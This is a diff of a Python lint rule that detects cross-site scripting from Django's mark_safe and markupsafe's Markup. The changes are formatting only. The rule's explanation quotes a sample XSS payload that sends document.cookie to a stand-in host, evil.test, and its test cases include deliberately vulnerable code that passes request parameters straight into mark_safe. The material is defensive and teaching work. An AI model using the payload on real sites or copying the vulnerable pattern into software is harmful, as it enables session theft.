@@ -11,10 +11,20 @@ from tabguard.rules.injection._strings import all_values_through, built_string, 
 
 _ESCAPERS = frozenset({"escape", "conditional_escape", "escape_html", "clean", "int", "len", "urlencode", "quote"})
 # The program's own text in the user's language (its message catalogues), e.g. a `format_html` template.
-_TRANSLATIONS = frozenset({
-    "_", "gettext", "gettext_lazy", "ugettext", "ugettext_lazy", "pgettext", "pgettext_lazy", "ngettext",
-    "ngettext_lazy", "lazy_gettext",
-})
+_TRANSLATIONS = frozenset(
+    {
+        "_",
+        "gettext",
+        "gettext_lazy",
+        "ugettext",
+        "ugettext_lazy",
+        "pgettext",
+        "pgettext_lazy",
+        "ngettext",
+        "ngettext_lazy",
+        "lazy_gettext",
+    }
+)
 _OWN_TEXT = _ESCAPERS | _TRANSLATIONS
 
 
@@ -38,11 +48,11 @@ class UnsafeMarkup(Rule):
     why = (
         "A comment, user name or query parameter such as `<img src=x onerror=fetch('//evil.test?c='+document.cookie)>` "
         "is sent to the browser as markup and runs as script in every visitor's session: stored or "
-        "reflected XSS. `Markup(f\"<b>{{name}}</b>\")` escapes nothing; `Markup(\"<b>{{}}</b>\").format(name)` does."
+        'reflected XSS. `Markup(f"<b>{{name}}</b>")` escapes nothing; `Markup("<b>{{}}</b>").format(name)` does.'
     )
     how = (
         "Let the template escape values, or build markup with the escaping helpers: "
-        "`Markup(\"<b>{{}}</b>\").format(name)`, `format_html(\"<b>{{}}</b>\", name)` in Django; sanitise "
+        '`Markup("<b>{{}}</b>").format(name)`, `format_html("<b>{{}}</b>", name)` in Django; sanitise '
         "rich text with an HTML sanitiser (e.g. `nh3.clean`) before marking it safe."
     )
     example = 'Markup("<b>{}</b>").format(name)\nformat_html("<a href=\\"{}\\">{}</a>", url, label)'
@@ -60,10 +70,10 @@ class UnsafeMarkup(Rule):
         'from markupsafe import Markup\ndef f(name):\n    return Markup("<b>{}</b>").format(name)\n',
         'from django.utils.html import format_html\ndef f(url, label):\n    return format_html("<a href=\\"{}\\">{}</a>", url, label)\n',
         'from markupsafe import Markup\nICON = Markup("<svg></svg>")\n',
-        'from django.utils.safestring import mark_safe\ndef f(html):\n    return mark_safe(html)\n',
+        "from django.utils.safestring import mark_safe\ndef f(html):\n    return mark_safe(html)\n",
         'from markupsafe import Markup, escape\ndef f(name):\n    return Markup(f"<b>{escape(name)}</b>")\n',
         # A template made of translated messages; format_html escapes the values it fills in.
-        'from django.utils.html import format_html\nfrom django.utils.translation import gettext as _\n'
+        "from django.utils.html import format_html\nfrom django.utils.translation import gettext as _\n"
         'def added(obj, editable):\n    msg = _("The {obj} was added.")\n    if editable:\n'
         '        msg += " " + _("You may edit it again below.")\n    return format_html(msg, obj=obj)\n',
     )
@@ -73,9 +83,9 @@ class UnsafeMarkup(Rule):
             'import html\nfrom markupsafe import Markup\ndef f(name):\n    return Markup(f"<b>{html.escape(str(name))}</b>")\n',
         ),
         Invalid(
-            'from django.utils.safestring import mark_safe\ndef view(request):\n'
+            "from django.utils.safestring import mark_safe\ndef view(request):\n"
             '    return mark_safe(request.GET["bio"])\n',
-            'import html\nfrom django.utils.safestring import mark_safe\ndef view(request):\n'
+            "import html\nfrom django.utils.safestring import mark_safe\ndef view(request):\n"
             '    return mark_safe(html.escape(str(request.GET["bio"])))\n',
         ),
         Invalid(
@@ -94,6 +104,12 @@ class UnsafeMarkup(Rule):
         if source is None and (built is None or all_values_through(built, ctx, _OWN_TEXT)):
             return
         what = f"user input ({source.label})" if source else "text built by string formatting"
-        ctx.report(self, html, details={"callee": callee.split(".")[-1], "what": what}, source=source,
-                   severity=raised(self, source), confidence=unconfirmed(self, source),
-                   fix=escape_fix(ctx, html, only_tainted=False))
+        ctx.report(
+            self,
+            html,
+            details={"callee": callee.split(".")[-1], "what": what},
+            source=source,
+            severity=raised(self, source),
+            confidence=unconfirmed(self, source),
+            fix=escape_fix(ctx, html, only_tainted=False),
+        )
